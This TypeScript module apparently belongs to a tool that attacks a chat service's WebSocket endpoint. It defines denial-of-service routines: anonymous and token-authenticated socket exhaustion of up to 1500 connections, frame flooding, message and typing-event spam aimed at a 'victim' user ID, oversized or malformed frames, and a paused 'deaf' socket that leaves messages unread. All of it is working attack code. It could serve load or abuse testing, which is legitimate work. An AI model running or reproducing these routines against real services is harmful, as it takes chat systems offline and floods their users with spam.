import { once } from 'node:events'
import { WebSocket } from 'ws'
import { flood } from '../way.ts'
import type { Attacker, Way } from '../way.ts'

/** Resolves when the socket is open, or will not be. */
function open({ client, over }: Attacker, query: string): Promise<WebSocket> {
  const socket = new WebSocket(`${client.origin.replace('http', 'ws')}/cnbi.io/${query}`, {
    headers: { 'User-Agent': client.userAgent },
  })
  over.addEventListener('abort', () => {
    socket.terminate()
  })
  return new Promise(resolve => {
    const done = () => {
      resolve(socket)
    }
    socket.on('open', done).on('error', done).on('close', done)
  })
}

const own = ({ client }: Attacker) => `?Authorization=${client.token}&v=1`
const ended = (over: AbortSignal) => (over.aborted ? undefined : once(over, 'abort'))

/** Opens sockets until no more are given, as a stranger or by one login, and keeps them. */
const hoard =
  (query: (attacker: Attacker) => string): Way =>
  async attacker => {
    for (let count = 0; count < 1500 && !attacker.over.aborted; count += 1) await open(attacker, query(attacker))
    await ended(attacker.over)
  }
export const strangersSockets = hoard(() => '')
export const ownSockets = hoard(own)

/** Sends as fast as the socket takes it, a new socket when it is closed. */
const pour =
  (query: (attacker: Attacker) => string, frame: (attacker: Attacker, at: number) => string): Way =>
  attacker => {
    let made = 0
    return flood(attacker.over, 1, async () => {
      const socket = await open(attacker, query(attacker))
      while (!attacker.over.aborted && socket.readyState === WebSocket.OPEN) {
        await new Promise(resolve => {
          socket.send(frame(attacker, made++), resolve)
        })
      }
      socket.terminate()
    })
  }
export const strangersFrames = pour(
  () => '',
  () => JSON.stringify(Array.from({ length: 100 }, () => ({ code: 1100 }))),
)
export const heartbeats = pour(own, () => '{"code":1111}')
export const messages = pour(own, ({ client, victim }, at) =>
  JSON.stringify({
    code: 1100,
    data: {
      id: `h${client.userId}-${at}-${Date.now()}`,
      senderId: client.userId,
      receiverId: victim.id,
      type: 1,
      content: 'x',
      fileId: null,
    },
  }),
)
export const typing = pour(own, ({ victim }) =>
  JSON.stringify({ code: 3001, data: { miniType: 1100, targetId: victim.id } }),
)
export const nonsenseFrames = pour(own, (_, at) =>
  at % 2 ? '{'.repeat(1000) : JSON.stringify({ code: at, data: 'x'.repeat(60_000) }),
)

/** Asks for much and reads nothing. */
export const deaf: Way = async attacker => {
  const socket = await open(attacker, own(attacker))
  socket.pause()
  await messages(attacker)
}
